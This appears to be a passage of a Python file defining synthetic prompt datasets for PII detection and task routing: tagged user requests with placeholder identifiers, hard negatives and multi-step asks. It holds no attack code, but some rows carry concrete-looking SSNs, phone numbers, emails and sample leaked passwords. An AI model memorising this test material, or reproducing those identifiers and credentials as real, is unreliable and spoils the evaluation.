    "public",
)

# Requests carrying PII of every type in varied formats.
PII_ROWS = r"""
draft f R | write a short email to the bank disputing a double charge on my card [[CC:visa:s]] for 129.00 at CityFit on 3 May
extract f R | from this remittance pull the payer, amount and account:\n"Payment from [[P:Helena Vogt]], EUR 4,250.00, IBAN [[IBAN:DE:s]], ref Q2 rent"
summarize f R | summarise this email from a supplier: "Hi, this is [[P:Ravi Menon]] from Kline Packaging. Our bank details have changed. From 1 July please pay all invoices to [[IBAN:NL:n]] instead of the old account. Call me on [[T:+44 7700 900481]] if any questions."
reasoning s M R | is this a payment diversion scam? "Hi, this is [[P:Ravi Menon]] from Kline Packaging. Our bank details have changed, please pay invoices to [[IBAN:NL:s]] from now on." what checks should AP do before paying
classify f R | tag each charge on my card [[CC:mc:d]] as business or personal: train to Leeds 84.20, Netflix 10.99, hotel Leeds 139.00, supermarket 56.31, client lunch 47.80
code s R | a card number like [[CC:visa:n]] turned up in our app logs. write a logging filter that redacts card numbers before logs leave the server
draft l C | write a reply to [[P:Julia Fernández]] ([[E:julia.fernandez@mailbox.es]]) confirming we've received her data deletion request and will respond within one month
extract g C | pull names, emails and phone numbers into a table:\n"Speakers confirmed: [[P:Aiden Clarke]] ([[E:aiden.clarke@northpoint.io]], [[T:+1 415 555 0192]]); [[P:Mei Ling Tan]] ([[E:meiling.tan@sgtech.com.sg]], [[T:+65 9123 4567]]); [[P:Lukas Becker]] ([[E:l.becker@bergmann-ag.de]], [[T:+49 89 2019 4471]])."
translate m C | translate into English: "Madame [[P:Claire Dubois]], 58 ans, hospitalisée pour une décompensation cardiaque. Merci de la rappeler au [[T:+33 6 12 48 90 37]] pour le rendez-vous de contrôle."
summarize m C | summarise for the referral: [[P:Aaron Goldberg]], 45, SSN [[SSN:512-48-3390]], chronic lower back pain 8 months, MRI shows L4-5 disc bulge, failed 12 weeks of physio, requesting spinal surgery opinion.
extract s C | list each IP with how many failed logins it had:\nfailed login user=jsmith src=[[IP:203.0.113.54]]\nfailed login user=jsmith src=[[IP:203.0.113.54]]\nfailed login user=admin src=[[IP:2001:db8:4f2a::17]]\nfailed login user=jsmith src=[[IP:203.0.113.54]]\nok login user=mlopez src=[[IP:192.168.10.44]]
reasoning s M C | should we block [[IP:91.219.236.15]]? it hit our login page 4,000 times overnight but also appears in our CDN's range list
draft g C | write a quick welcome message for our new hire [[P:Siobhan Murphy]], starting Monday, her email is [[E:siobhan.murphy@harbourline.ie]]
classify l R | we received these in a public support ticket by mistake - which are regulated identifiers we must purge: customer's NRIC [[NRIC:S]], their order number 00418823, their SSN [[SSN:433-27-8190]], their shoe size
draft f R | email to HR: please update my salary account to [[IBAN:FR:s]] from next month, thanks, [[P:Olivier Marchand]]
extract l C | get the names and roles of everyone in this email chain{DISMISS}
reasoning l M C | was this dismissal lawful? he'd been there 4 years, in the UK{DISMISS}
sentiment l C | how would you describe the tone of this email{DISMISS}
chat g C | hi it's [[P:Daniel Okonkwo]] again, thanks for yesterday's help
draft m C | text message to remind [[P:Grace Adeyemi]] of her flu jab at 10:20 on Thursday, her mobile is [[T:07700 900215]]
translate g C | translate my signature into Chinese: [[P:Emily Carter]], Head of Partnerships, [[T:+61 412 555 019]], [[E:emily.carter@koalabay.com.au]]
qa f R | my card [[CC:amex:s]] was declined abroad even though I have credit. why does that happen?
math f R | I paid 1,240.50 from card [[CC:disc:d]] and got 3% cashback, how much back?
extract f R | pull out the account holder and IBAN, I need to set up a payee: "Beneficiary [[P:Marta Kowalska]], [[IBAN:PL:s]], bank PKO BP"
draft s R | the SOC found this in a pastebin dump: [[E:finance.ap@oakridge-health.org]] / Summer2024! and card [[CC:mc2:s]]. draft the internal alert to the CISO
code g C | write a Python script that reads a CSV of IPs like [[IP:172.16.254.3]] and [[IP:fe80::1c2b:3dff:fe4a:92]] and says whether each is private, public or link-local
sentiment g C | is [[P:Noah Williams]] happy in this message? "Noah here - honestly loving the new role, although the commute is killing me"
summarize g C | summarise this voicemail transcript: "Hi, it's [[P:Priya Raghavan]] from the venue. The hall is confirmed for the 22nd but we need the final headcount by Friday. Call me back on [[T:(312) 555-0148]]. Thanks."
extract m R | Pull the patient identifiers out of this referral so we can check them against the system: "Name [[P:Lim Wei Jie]], NRIC [[NRIC:T]], tel [[T:+65 6221 3380]], referred for cataract assessment"
qa l R | a shop asked for my SSN [[SSN:078-51-1120]] just to sign up for a loyalty card, is that even legal? (I've typed it here by mistake, don't store it)
draft f R | write to the landlord: rent will come from my new account [[IBAN:ES:n]] from next month
classify s C | flag which of these sign-ins look risky: [[P:Hannah Schulz]] from [[IP:85.214.132.117]] (Berlin, usual), [[P:Hannah Schulz]] from [[IP:41.203.64.8]] (Lagos, 20 min later), [[P:Omar Farouk]] from [[IP:2a00:1450:4009:81f::200e]] (London, usual)
extract g C | make a contact card from this signature: "[[P:Sven Lindqvist]] | Lindqvist Bygg AB | [[T:+46 8 555 123 45]] | [[E:sven@lindqvistbygg.se]]"
translate f R | translate into English: "Bitte überweisen Sie den Betrag auf das Konto [[IBAN:AT:s]] bis zum 30. Juni."
reasoning f M R | my IBAN is [[IBAN:IE:n]] and someone wants it to send me money for a used bike. is it safe to share an IBAN?
draft g C | invite [[P:Ahmed Al-Sayed]] and [[P:Chloe Martin]] to the Thursday design review, their emails are [[E:ahmed.alsayed@contoso.org]] and [[E:c.martin@contoso.org]]
"""

# Hard negatives: PII-shaped strings that are not PII; the rows carry no PII.
HARD = r"""
! draft g | reply to a customer asking where order #40018823 is - it shipped on 2024-05-02 with tracking 1Z999AA10123456784
! extract f | pull invoice number, amount and due date from each line:\nINV-2024-00871  EUR 1.240,00  due 15.07.2024\nINV-2024-00902  EUR 380,50  due 31.07.2024\nINV-2024-00915  EUR 12.900,00  due 02.08.2024
! reasoning g M | after upgrading from 4.2.0.17 to 4.3.1.2 our plugin stopped loading. what likely changed and how do I find out?
! code g | my Luhn check rejects [[BADCC:s]], is my code wrong or the number? here's the code: def luhn(n): return sum(int(d) for d in n) % 10 == 0
! math f | is [[BADIBAN:DE:s]] a valid IBAN? check the mod 97 checksum for me
! qa g | what does the "1.0.0.1" in our version string stand for, is it major.minor.patch.build?
! classify g | prioritise these tickets P1-P3: INC0048812 payroll export failing, INC0048815 one monitor flickering, INC0048819 whole 3rd floor without wifi
! summarize f I | summarise this for the AP team: PO 4500019283 was invoiced twice (INV-7781 and INV-7781-A), 12,450.00 each, on 03/04/2024 and 05/04/2024. Credit note CN-2210 for 12,450.00 was issued on 19/04/2024.
! extract g | list the serial numbers and warranty end dates:\nSN-4471-2209-1183 warranty to 2026-01-31\nSN-4471-2209-1190 warranty to 2025-11-30\nSN-5520-0031-0042 warranty to 2027-03-15
! math f | order 1029-4471-8830 was 3 x 49.99 plus 4.95 shipping, minus a 10% code. what should the total be?
! chat g | thanks! ticket JIRA-4821 is closed now
! translate g | translate to Spanish: "Your order 7731-0042-9981-2210 has been dispatched and will arrive on 12/06."
! draft f | write to the supplier: we can't pay invoice INV-2023-44120 for $18,240.00 until they send the signed delivery note
! qa g | what's the difference between build 2.7.14.302 and 2.7.14.298 in the release notes? where are they usually listed
! code g | write a regex that matches our ticket ids like INC0012345 and CHG0004411 but not plain numbers
! classify f | label each line as refund, fee or purchase: 03/06 REF 8841-2290 +24.99; 04/06 FX FEE -1.20; 05/06 ORDER [[BADCC:d]] -89.00
! reasoning f M | the bank rejected the transfer to [[BADIBAN:FR:n]], saying the IBAN is invalid. what are the likely reasons and what should I ask the recipient
! extract l | pull the case numbers and hearing dates: Case No. 2023-CV-004417 hearing 11 Sept 2024; Case No. 2024-CV-000912 hearing 3 Oct 2024
! sentiment g | how angry is this customer? "Third time asking. Order 558-2213390-4471102 still hasn't arrived and it's been 19 days."
! math g | how many days between 2024-02-14 and 2024-09-01
! summarize s I | summarise: patch 10.0.19045.4412 fixed the print spooler bug; KB5037768 supersedes KB5036892; rollout to ring 2 on 21 May
! extract s I | list the versions and affected products from this advisory: "OpenSSH 9.1p1 through 9.7p1; FortiOS 7.4.0-7.4.2; PAN-OS 10.2.9.1"
! classify m | categorise these lab order codes by department: HAEM-0231 full blood count, BIO-1188 U&E, MICRO-0457 urine culture, BIO-1190 LFT
! qa m | a reference number 4000 1234 5678 9011 is printed on my prescription. what's it for?
! draft g | write a message to the warehouse: SKU 4410-0021-3381-0007 is mislabelled as 4410-0021-3381-0070, please relabel before Friday
! math f | we invoiced $1,204,330.75 in Q1 and $1,388,912.40 in Q2 - growth in %?
! qa g | why is app version 3.10.0.2 listed before 3.9.0.8 in our update list? which is newer
! extract f | pull the amounts and dates: rent 1,150.00 on 01/06, council tax 164.00 on 15/06, car insurance 58.20 on 28/06
! reasoning g M | our HR system rejects [[BADNRIC]] as an invalid NRIC for a new joiner. could the check letter just be a typo, and what should HR ask them for?
! translate f | translate this into French: "Reference 9301-4471-0028-1166. Amount due: 2.340,00 EUR by 30.09.2024."
! code g | parse version strings like 4.2.0.17 and 10.11.3 into tuples and sort them correctly in Python
! summarize g | summarise: meeting on 12/03 at 14:00 in room 4.2.1 moved to 19/03 same time; budget 3,500 approved; MAC 00:1a:2b:3c:4d:5e of the old projector to be removed from the allowlist
"""

MULTI = r"""
qa s => What is SIM swapping ;; reasoning s M => how exposed am I if my bank uses SMS codes ;; draft s => write a message to my mobile provider asking for a port-out PIN ;; chat g => thanks in advance || What is SIM swapping, how exposed am I if my bank uses SMS codes, write a message to my mobile provider asking for a port-out PIN. thanks in advance!
summarize l C => Summarise the email ;; reasoning l M C => tell me what he could claim ;; draft l C => draft a grievance letter for him ;; translate l C => translate the summary into Polish for his family || Summarise the email, tell me what he could claim, draft a grievance letter for him, and translate the summary into Polish for his family.{DISMISS}
extract m C => First, list his current problems ;; classify m C => second, rank them by urgency ;; draft m C => third, write the SBAR call to the registrar || First, list his current problems; second, rank them by urgency; third, write the SBAR call to the registrar.{HANDOVER}
sentiment f => tell me if this review is positive ;; extract f => pull out the fees mentioned ;; draft f => write a short public reply || tell me if this review is positive, pull out the fees mentioned, and write a short public reply: "Opening the account was easy but the £5 monthly fee and the 2.99% foreign transaction charge are a joke compared to online banks."
creative g => write a short welcome poem for our new interns ;; chat g => and thanks for all the help this week || write a short welcome poem for our new interns - and thanks for all the help this week!
classify s C => Which of these sign-ins are suspicious ;; draft s C => draft a message to the user asking if it was them || Which of these sign-ins are suspicious? Then draft a message to the user asking if it was them.\n[[P:Laura Bianchi]] 07:58 Milan [[IP:151.22.18.4]]\n[[P:Laura Bianchi]] 08:03 Singapore [[IP:2406:3003:2077:1e00::2]]\n[[P:Laura Bianchi]] 12:40 Milan [[IP:151.22.18.4]]
math f R => how much is left after the 2.5% fee ;; draft f R => write the transfer note to [[P:Nadia Petrova]] || I'm sending 3,800 to [[IBAN:IT:s]] - how much is left after the 2.5% fee, and write the transfer note to [[P:Nadia Petrova]] explaining the deduction
qa f => what's an ISA ;; reasoning f M => is a cash ISA or a stocks and shares ISA better for a house deposit in 3 years || what's an ISA, and is a cash ISA or a stocks and shares ISA better for a house deposit in 3 years?
summarize l I => Summarise the NDA section below ;; extract l I => list the notice periods ;; draft l I => draft an email to legal asking if 5 years of confidentiality is normal || Summarise the NDA section below, list the notice periods, then draft an email to legal asking if 5 years of confidentiality is normal.{NDA}
math f => calculate the VAT ;; draft f I => write the cover note to the client || 1) calculate the VAT on a 3,450 invoice at 20% 2) write the cover note to the client explaining the total
extract m C => list the meds ;; translate m C => translate the follow-up instructions into Polish || list the meds and translate the follow-up instructions into Polish{DISCHARGE}
classify s => label each ticket as security or not ;; draft s => write a reply for the one about the parcel text || label each ticket as security or not, and write a reply for the one about the parcel text{TICKETS}
sentiment g => what's the mood of these reviews ;; creative g => write a cheeky reply to the 5-star one || what's the mood of these reviews? also write a cheeky reply to the 5-star one{REVIEWS}
code g => fix the crash ;; code g => add a docstring and type hints ;; qa g => explain why it crashed || fix the crash, add a docstring and type hints, and explain why it crashed{PYCODE}
qa s => what's a honeypot ;; reasoning s M => would one make sense for a 50-person company || quick one - what's a honeypot and would one make sense for a 50-person company
draft g => Draft an email inviting the team to Friday's retro ;; creative g => suggest a fun theme for it || Draft an email inviting the team to Friday's retro. Then suggest a fun theme for it.
translate g => translate "where is the train station" into German ;; translate g => into Italian || translate "where is the train station" into German and into Italian
math m => work out her creatinine clearance ;; reasoning m M => tell me whether the apixaban dose should change || 82 year old woman, 54 kg, creatinine 132 µmol/L - work out her creatinine clearance (Cockcroft-Gault) and tell me whether the apixaban dose should change
summarize s I => Summarise the incident ;; classify s I => rate its severity (low/med/high/critical) ;; draft s I => draft three lessons-learned bullets || Summarise the incident, rate its severity (low/med/high/critical), draft three lessons-learned bullets.{INCIDENT}
extract f C => extract all card payments ;; math f C => total them ;; classify f C => flag which look like subscriptions || extract all card payments, total them, and flag which look like subscriptions{STATEMENT}
qa l => Can my employer make me work on a bank holiday? ;; draft l => write me a message to my manager asking for it off || Can my employer make me work on a bank holiday? If not, write me a message to my manager asking for it off.
reasoning g M => which of these two job offers should I take ;; draft g => write a polite decline for the other one || which of these two job offers should I take - startup, 58k + equity, fully remote vs bank, 64k, 3 days in office - and write a polite decline for the other one
chat g => hey! ;; qa g => how do solar panels work on cloudy days || hey! how do solar panels work on cloudy days
creative g => write a short poem about autumn ;; translate g => translate it into French || write a short poem about autumn and then translate it into French
code g => Write a SQL query for monthly active users ;; qa g => explain the difference between COUNT(*) and COUNT(DISTINCT user_id) || Write a SQL query for monthly active users from events(user_id, ts), and explain the difference between COUNT(*) and COUNT(DISTINCT user_id) while you're at it
extract l => pull out the deposit rules ;; reasoning l M => tell me if charging for professional cleaning is allowed || pull out the deposit rules, then tell me if charging for professional cleaning is allowed in England{LEASE}
sentiment f => How does this client feel ;; draft f => Draft a response offering a fee refund || How does this client feel? Draft a response offering a fee refund. "Your new platform fee of 0.45% is outrageous for what you provide. I'm moving my ISA unless something changes."
math g => how long will it take to drive 420 km at an average of 95 km/h ;; reasoning g M => should I drive or take the train || how long will it take to drive 420 km at an average of 95 km/h, and should I drive or take the train if the train is 3h40 door to door?
summarize m => summarise the trial ;; qa m => what's HbA1c ;; draft m => write a two-sentence post for our clinic's Instagram about it || summarise the trial, what's HbA1c, and write a two-sentence post for our clinic's Instagram about it{TRIAL}
code s => Write a Python function that checks a password against the HaveIBeenPwned range API ;; qa s => explain why k-anonymity keeps the password private || Write a Python function that checks a password against the HaveIBeenPwned range API. Also explain why k-anonymity keeps the password private.
classify g => Sort these ideas into quick wins vs long projects ;; reasoning g M => recommend which three to start with || Sort these ideas into quick wins vs long projects and recommend which three to start with: standing meeting-free Fridays, a shared glossary, migrating the wiki, a new onboarding buddy scheme, automating the weekly report
translate l => Translate the clause into English ;; summarize l => summarise what it means for me as the employee || Translate the clause into English and summarise what it means for me as the employee: "Le salarié s'engage à ne pas exercer d'activité concurrente pendant une durée de douze mois suivant la rupture du contrat, dans un rayon de 50 km."
draft f => draft a budget request for two new laptops ;; math f => work out the total with 20% VAT || can you draft a budget request for two new laptops at 1,149 each and work out the total with 20% VAT
qa m => what is sciatica ;; reasoning m M => should I see a doctor or wait it out ;; draft m => write a note to my boss asking to work from home this week || what is sciatica, should I see a doctor or wait it out (3 weeks now, pain down my left leg), and write a note to my boss asking to work from home this week
extract s C => list the attacker's requests ;; classify s C => classify each as recon, exploitation or benign ;; draft s C => write the block rule request || list the attacker's requests, classify each as recon, exploitation or benign, and write the block rule request{NGINX}
chat g => thanks! ;; summarize g => could you also shorten this to one paragraph || thanks! could you also shorten this to one paragraph?{BLOGPOST}
creative g => Come up with a name for our budgeting app ;; creative g => a one-line tagline ;; draft g => a short app store description || Come up with a name for our budgeting app, a one-line tagline and a short app store description
reasoning f M => Compare paying monthly vs annually for the car insurance ;; math f => what's the APR implied || Compare paying monthly vs annually for the car insurance - 612 upfront or 12 x 56.40. what's the APR implied?
sentiment l => What's the tone of this email ;; reasoning l M => is it discriminatory ;; draft l => draft a reply || What's the tone of this email, is it discriminatory, and draft a reply. "We've decided to give the team lead role to someone with more availability, given your upcoming maternity leave."
qa g => what is a Gantt chart ;; reasoning g M => plan out a 6-week website launch as one, in a table || what is a Gantt chart? and plan out a 6-week website launch as one, in a table
extract g I => Pull out the dates ;; draft g I => draft a calendar invite text for each || Pull out the dates and draft a calendar invite text for each.{MINUTES}
code g => Write a bash script to back up /var/www nightly ;; code g => the cron line to schedule it ;; qa g => explain how to restore from it || Write a bash script to back up /var/www nightly, the cron line to schedule it, and explain how to restore from it.
math f => how much interest will I pay in total ;; reasoning f M => is it better to take 3 or 5 years || car loan 18,000 at 7.9%: how much interest will I pay in total on 3 years vs 5 years, and is it better to take 3 or 5 years if I can afford both?
summarize s => Summarise this email ;; classify s => classify it ;; draft s => draft a heads-up for the team || Summarise this email, classify it, draft a heads-up for the team{PHISH}
translate m => Translate to Spanish ;; draft m => write a friendly text message version || Translate to Spanish and write a friendly text message version: "Your appointment with the diabetes nurse is on Tuesday 11 June at 09:40. Please bring your glucose meter."
qa l => what's an NDA actually protect ;; draft l => give me a simple one-page template for a freelancer || what's an NDA actually protect? and give me a simple one-page template for a freelancer
classify m => classify each message by urgency ;; draft m => draft a reply to the least urgent one || classify each message by urgency and draft a reply to the least urgent one:\n- "Can I get a sick note for last week?"\n- "my baby has a fever of 39.8 and is floppy"\n- "is the clinic open on the bank holiday?"
reasoning s M => Diagnose what happened here ;; extract s C => give me the attacker IP ;; draft s C => a one-paragraph note for the change board || Diagnose what happened here, give me the attacker IP, and a one-paragraph note for the change board.{AUTHLOG}
draft g => write an apology to customers for yesterday's outage ;; translate g => then do a German version || write an apology to customers for yesterday's outage (2 hours, payments page), then do a German version
math g => 15% of 240 ;; math g => 240 divided by 16 || quick maths: 15% of 240, and 240 divided by 16
qa f => What's the difference between gross and net pay ;; math f => how much net if gross is 3,000 and deductions are 22% || What's the difference between gross and net pay, and how much net if gross is 3,000 and deductions are 22%?
extract l => Extract the liability cap ;; extract l => list the carve-outs ;; reasoning l M => say whether it's market standard for a SaaS deal || Extract the liability cap, list the carve-outs, say whether it's market standard for a SaaS deal.{CLAUSE_LIAB}
sentiment g => How is the team feeling based on these retro comments? ;; summarize g => Summarise the top 3 themes ;; creative g => suggest a team-building game || How is the team feeling based on these retro comments? Summarise the top 3 themes and suggest a team-building game.\n"Too many meetings." "Love the new designer!" "Releases are scary." "Nobody knows who owns analytics." "Great pairing sessions this sprint."
code s => review this for vulns ;; code s => rewrite it with parameterised queries and hashed passwords || review this for vulns and rewrite it with parameterised queries and hashed passwords{LOGIN}
qa m => What's the normal range for blood pressure ;; math m => what's the average of these readings ;; reasoning m M => should I be worried || What's the normal range for blood pressure? what's the average of these readings: 142/91, 138/88, 151/94, 135/86? should I be worried?
draft f => Write the email to finance ;; extract f I => attach a list of line items with prices || Write the email to finance asking them to pay this invoice early, and attach a list of line items with prices{INVOICE}
translate f => translate this bank letter into English ;; summarize f => tell me in one sentence what they want || translate this bank letter into English and tell me in one sentence what they want: "Gentile cliente, la informiamo che dal 1° luglio il canone mensile del conto passerà da 3,00 a 5,50 euro."
chat g => good morning! ;; draft g => can you write a quick team update saying the launch moved to Thursday || good morning! can you write a quick team update saying the launch moved to Thursday
reasoning l M => Do I have a claim ;; draft l => draft a letter before action || I bought a used car from a dealer and the gearbox failed after 3 weeks. Do I have a claim, and if so draft a letter before action.
classify f => tag each line as fixed or variable cost ;; math f => give me the total of each group || tag each line as fixed or variable cost and give me the total of each group: rent 2,400; packaging 610; salaries 18,500; card fees 340; insurance 290; raw materials 4,720
creative g => write a short story about a robot learning to cook ;; summarize g => give me a one-line summary of it for the blurb || write a short story about a robot learning to cook, then give me a one-line summary of it for the blurb
extract m => extract the doses ;; math m => calculate the total daily amount of paracetamol ;; reasoning m M => check it's under the limit || extract the doses, calculate the total daily amount of paracetamol, and check it's under the limit: "Co-codamol 30/500 two tablets four times a day, plus Lemsip (650 mg paracetamol per sachet) twice a day."
qa s => what's the difference between a VPN and a proxy ;; reasoning s M => which should our remote staff use || what's the difference between a VPN and a proxy and which should our remote staff use
summarize g => Summarise the article ;; extract g => list the numbers it quotes ;; translate g => translate the summary into Spanish || Summarise the article, list the numbers it quotes, translate the summary into Spanish.{BLOGPOST}
draft l => write a short privacy notice for our newsletter signup form ;; qa l => tell me if we need consent or can rely on legitimate interest || write a short privacy notice for our newsletter signup form, and tell me if we need consent or can rely on legitimate interest
math f => What's my take-home ;; reasoning f M => would salary sacrifice into the pension help || What's my take-home on 48,000 in England this tax year, and would salary sacrifice into the pension help?
code g => Write a Python script that renames all .jpeg files to .jpg in a folder ;; code g exec => run it on the test folder and show me the output || Write a Python script that renames all .jpeg files to .jpg in a folder, run it on the test folder and show me the output.
sentiment m => what do these comments say about how patients feel about the new online booking ;; classify m => group them by theme || what do these comments say about how patients feel about the new online booking, and group them by theme:\n"so much easier than phoning at 8am" / "couldn't find a slot for 3 weeks" / "my mum can't use it" / "reminders are handy"
reasoning g H => Help me plan the migration from Trello to Jira for 4 teams ;; draft g => write the announcement email || Help me plan the migration from Trello to Jira for 4 teams (timeline, risks, training). After that write the announcement email.
translate s => translate the phishing email into German ;; draft s => write two tips for spotting it || translate the phishing email into German and write two tips for spotting it{PHISH}
qa g => How do I export my calendar from Outlook? ;; chat g => Also you've been great today, thanks || How do I export my calendar from Outlook? Also you've been great today, thanks
extract f I => pull out revenue and EBIT for both quarters ;; reasoning f M => explain what drove the EBIT drop || pull out revenue and EBIT for both quarters and explain what drove the EBIT drop{QUARTER}
draft m => write a discharge checklist for nurses ;; classify m => mark which items need a doctor's sign-off || write a discharge checklist for nurses, and mark which items need a doctor's sign-off
classify l => rate each clause low/medium/high risk for me as a tenant ;; draft l => suggest a fairer wording for the worst one || rate each clause low/medium/high risk for me as a tenant, and suggest a fairer wording for the worst one{LEASE}
math s => how many possible 6-digit PINs are there ;; reasoning s M => is a 6-digit PIN safe enough for the door panel || how many possible 6-digit PINs are there, and is a 6-digit PIN safe enough for the door panel if it locks out after 5 tries?
"""


# Second pass: sentiment/classify/summarize asks in the specialist domains,
# more chat and creative, more identifiers, longer asks.
MORE = r"""
sentiment l | read this tribunal witness statement and tell me how the claimant comes across - credible and calm, or angry? "I raised the overtime issue three times in writing. Each time I was told to 'be a team player'. When I asked again in March, my shifts were cut the following week."
sentiment l | how does the landlord sound in this text - is he likely to negotiate? "I've had enough of the excuses. Rent is two weeks late again. I'm not running a charity. Pay by Friday or I'll start the process."
sentiment m | from this feedback, do parents trust the new children's ward? "Nurses were amazing with my daughter." "Nobody told us when the doctor would come round." "Felt safe the whole time." "Food was cold, but the care was excellent."
sentiment m | is the patient's tone in this email anxious, angry or neutral? "I still haven't heard about my biopsy result and it's been three weeks. I can't sleep. Can someone please just call me."
sentiment s | gauge how the team feels about the new phishing simulations: "gotcha emails make me feel stupid" / "actually I learned a lot from the feedback page" / "feels like IT is trying to catch us out"
sentiment f | rate the mood of these investor comments from 1 (very negative) to 5 (very positive): "Guidance cut again, patience running out." / "Dividend held, decent." / "Best quarter in years!"
sentiment g | did the customer leave this chat happy? "ok. so basically nothing can be done. great. thanks I guess"
sentiment g | Tone check before I send: "As discussed, I'll need your section by Thursday at the latest, otherwise we'll present without it." - does that sound rude?
classify l | Sort these contract types by who usually signs them - HR, procurement or sales: employment contract, NDA with a prospect, supplier framework agreement, reseller agreement, settlement agreement, SaaS order form
classify m | code each symptom to a body system (cardio, resp, GI, neuro, derm): wheeze, palpitations, tingling in fingers, heartburn, itchy rash, productive cough
classify s | Which of these are social engineering and which are technical attacks: pretext phone call to the helpdesk, SQL injection, tailgating into the office, DDoS, USB drops in the car park, ransomware via RDP
classify f | bucket these into low, medium or high risk investments: government bonds, crypto, global index fund, single tech stock, cash ISA, corporate bonds
summarize l | Summarise the key points of this judgment for a non-lawyer: "The Court of Appeal held that the drivers were workers, not independent contractors, because the company set the fares, controlled the terms of the contract and penalised drivers for declining trips. The drivers were therefore entitled to the minimum wage and paid holiday. The appeal was dismissed."
summarize m | shorten this for a patient newsletter: "New guidance recommends that adults aged 75 and over receive a spring booster, as immunity from the autumn dose wanes over six months. Uptake last year was 71%. Side effects are usually mild - a sore arm, tiredness - and settle within two days."
summarize s | summarise this advisory for the helpdesk in 3 bullets: "A critical vulnerability in the file transfer product allows unauthenticated attackers to upload files and execute code. Exploitation has been observed since 27 May. Vendors recommend disabling HTTP access to the service, applying the hotfix, and reviewing logs for unknown .aspx files in the web root since 1 May."
summarize f | give me the short version of this pension letter: "Following the triennial valuation, the Scheme's deficit has increased to £41m. The Trustees and the Employer have agreed a recovery plan under which the Employer will pay additional contributions of £3.2m a year for nine years. Members' accrued benefits are not affected."
chat g | how's your day going?
chat g | ok you can stop now
chat g | is this conversation private?
chat g | brb coffee
chat g | hmm that's not what I asked but thanks anyway
chat g | Merci beaucoup !
chat g | can I give you a name? I'll call you Pixel
chat g | you got that wrong earlier, just so you know
creative g | write a silly poem about the office coffee machine breaking down
creative g | need 5 quiz team names with a pun on "byte"
creative g | write a limerick for my colleague Dave who always forgets his lanyard
creative g | Short sci-fi story, 200 words: a city where nobody is allowed to sleep
creative g | give me a catchy name and slogan for a charity 5k run raising money for the children's hospital
creative g | write song lyrics for a team-building karaoke about surviving quarter end
creative g | Write a haiku about compliance training. Make it a bit sarcastic
creative g | describe a dream holiday in the style of a pirate
reasoning m M | I'm 52 and my doctor offered a statin because my 10-year risk is 11%. what are the pros and cons, should I take it or try diet first?
reasoning s M | our MSP wants domain admin permanently "for convenience". what are the risks, and what's a reasonable compromise?
reasoning l M | I'm a contractor who's worked full time for one client for 3 years with a company laptop and email. could I be considered an employee, and what would change if so?
extract l | list every obligation the tenant has in this section and the deadline for each{LEASE}
extract s | Pull out the CVE IDs and affected versions: "CVE-2024-6387 (regreSSHion) affects OpenSSH 8.5p1 to 9.7p1 on glibc Linux. CVE-2024-3094 is the xz backdoor in xz-utils 5.6.0 and 5.6.1."
extract m | from these notes, pull out vitals into a table (time, BP, HR, temp, SpO2): 08:00 BP 132/84 HR 88 T 37.9 SpO2 95%; 12:00 BP 128/80 HR 96 T 38.4 SpO2 94%; 16:00 BP 118/72 HR 104 T 38.9 SpO2 93%
translate m | Can you put this into simple Arabic for a patient: "Do not eat or drink anything after midnight before your operation."
translate l | translate to English: "El arrendatario deberá notificar por escrito su intención de no renovar el contrato con al menos treinta días de antelación."
translate s | translate into Japanese for our Tokyo office: "Please lock your screen whenever you leave your desk."
draft s | write a short Slack message telling engineers that GitHub personal access tokens older than 90 days will be revoked on Friday
draft l | draft a simple letter giving my landlord two months' notice under the break clause, ending on 31 August
qa s | what's the difference between symmetric and asymmetric encryption
qa m | what is the difference between a virus and a bacterial infection
qa l | what is a power of attorney and when would I need one
qa l | how long do I have to return something I bought online in the EU, and does it apply to sale items
draft l | write a short email to my employer formally requesting flexible working (compressed hours, 4 days) under the statutory procedure
classify l | For each of these, say whether it's a criminal or a civil matter: unpaid invoice, shoplifting, a boundary dispute, drink driving, a breach of contract, libel
draft m H | write a full care plan template for a patient going home after a stroke: medications, physio goals, warning signs, who to call, carer checklist, follow-up appointments
reasoning m H | compare metformin, an SGLT2 inhibitor and a GLP-1 agonist as a second step for a 60-year-old with type 2 diabetes, heart failure and a BMI of 34 - benefits, risks, cost, and what you'd pick
qa m ret | what does our trust's sepsis pathway say about when to give antibiotics?
qa m web | what are the latest NHS guidelines on RSV vaccination for over-75s
summarize m ret | summarise our ward's falls-prevention policy for the new starters
classify m | sort these drugs into antibiotic, anticoagulant, painkiller or antihypertensive: amoxicillin, apixaban, ramipril, codeine, doxycycline, warfarin, amlodipine, naproxen
extract m | what dates and appointment types are in this letter? "Your echocardiogram is booked for 12 July at 9:15. Please also attend the anticoagulation clinic on 19 July and your cardiology review on 2 August."
sentiment m | does this carer sound burnt out? "Mum was up four times again last night. I haven't had a full night's sleep since March. I'm fine, honestly, just tired."
qa s ret | what's our approved list of password managers, per the IT security standard?
reasoning l H web | we're launching a loyalty app in the EU and the US next quarter. map out the current privacy rules we need to comply with in each (GDPR, CCPA and any new state laws), what has changed this year, and the top five things to build in before launch
"""

PII_MORE = r"""
extract f R | pull the card and expiry for the refund form: "Customer [[P:Isabel Duarte]] says she paid with [[CC:mc:n]] exp 11/26 and wants the refund to the same card"
draft l R | write a letter to the employer confirming [[P:Kevin O'Connor]]'s employment dates for his visa; his SSN is [[SSN:287-65-4321]] in case they need it
classify m R | which items in this record are identifiers and which are clinical data? "Name: [[P:Tan Mei Ling]] | NRIC: [[NRIC:S]] | Dx: gestational diabetes | HbA1c 6.1% | Mobile: [[T:+65 8123 4471]]"
summarize s C | summarise the suspicious activity for [[P:Rohan Mehta]] ([[E:rohan.mehta@westfield-uni.ac.uk]]): logins from [[IP:2001:db8:a0b:12f0::1]] and [[IP:103.21.244.9]] within 10 minutes, mailbox rule created to forward to an external gmail, 300 emails sent overnight
draft f R | reply to [[P:Fatima Zahra]] confirming her direct debit from [[IBAN:BE:s]] will start on the 1st and the first payment is 45.00
reasoning m M C | [[P:George Papadopoulos]], 67, on warfarin, INR 4.8 today, no bleeding. Hold a dose or reduce? his daughter's number for follow-up is [[T:+30 694 512 3380]]
translate l R | translate into English for the court file: "El demandado, [[P:Javier Morales]], con número de seguro social [[SSN:541-23-8876]], reside en Miami desde 2019."
extract s R | list everything sensitive in this leaked config so we know what to rotate: db_user=svc_app db_pass=Tr0ub4dor&3 admin_email=[[E:it-admin@pellham.co]] backup_host=[[IP:10.44.7.200]] card_test=[[CC:visa:d]]
qa f R | the bank says my IBAN [[IBAN:CH:s]] is for CHF only - can I receive euros into it?
chat g C | hey it's [[P:Yuki Tanaka]], you can reach me on [[T:+81 90-4412-7788]] if the chat drops, ok?
